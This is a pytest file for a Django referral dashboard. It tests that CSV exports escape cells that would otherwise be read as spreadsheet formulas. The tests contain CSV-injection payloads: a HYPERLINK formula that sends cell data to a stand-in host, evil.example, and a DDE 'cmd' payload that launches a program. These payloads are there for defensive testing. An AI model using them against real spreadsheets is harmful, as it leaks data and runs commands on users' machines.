"""A spreadsheet that opens an export runs nothing that somebody outside has written."""

from __future__ import annotations

import csv
from io import StringIO

import pytest
from django.test import Client

from livereferrals.spreadsheets import cell, line
from tests.factories import home_link, make_hit, make_partner, make_staff

FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"x")'
STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.mark.once
@pytest.mark.parametrize("start", STARTS, ids=ascii)
def test_cell_that_would_be_a_formula_is_text(start: str) -> None:
    """dashboard-49, D-20: with the wide forms, which a Japanese Excel takes for the same"""
    assert cell(f"{start}1+1") == f"'{start}1+1" or cell(f"{start}1+1").startswith("'")


@pytest.mark.once
@pytest.mark.parametrize("separator", [",", ";", "\t", "|"], ids=ascii)
def test_no_separator_of_any_country_begins_a_formula(separator: str) -> None:
    """dashboard-49: where lists are separated by semicolons, a semicolon in a text ends the cell"""
    for start in STARTS:
        written = line([f"harmless{separator}{start}cmd|' /C calc'!A0", "next"])
        for cells in csv.reader(StringIO(written, newline=""), delimiter=separator):
            for found in cells:
                assert not found.startswith(STARTS), found


@pytest.mark.once
@pytest.mark.parametrize("text", ["spring sale", "a=b", "1-2", "Mozilla/5.0 (X11; Linux)", "", "a; b", "/x?a=-1"])
def test_harmless_text_is_as_it_was(text: str) -> None:
    """dashboard-49"""
    assert cell(text) == text


@pytest.mark.django_db
@pytest.mark.parametrize(
    "path", ["/referrals/hits/export.csv", "/referrals/links/export.csv", "/referrals/partners/export.csv"]
)
def test_exports_are_made_of_such_cells(path: str) -> None:
    """dashboard-49: whatever names and ids come from outside"""
    partner = make_partner(name=FORMULA)
    make_hit(link=home_link(partner), referer=FORMULA, user_agent=FORMULA, click_id=FORMULA, sub1=f"a;{FORMULA}")
    staff = Client()
    staff.force_login(make_staff())
    text = b"".join(staff.get(path)).decode("utf-8-sig")
    assert "evil.example" in text
    for delimiter in ",;":
        for cells in csv.reader(StringIO(text, newline=""), delimiter=delimiter):
            assert not any(found.startswith(STARTS) for found in cells), cells
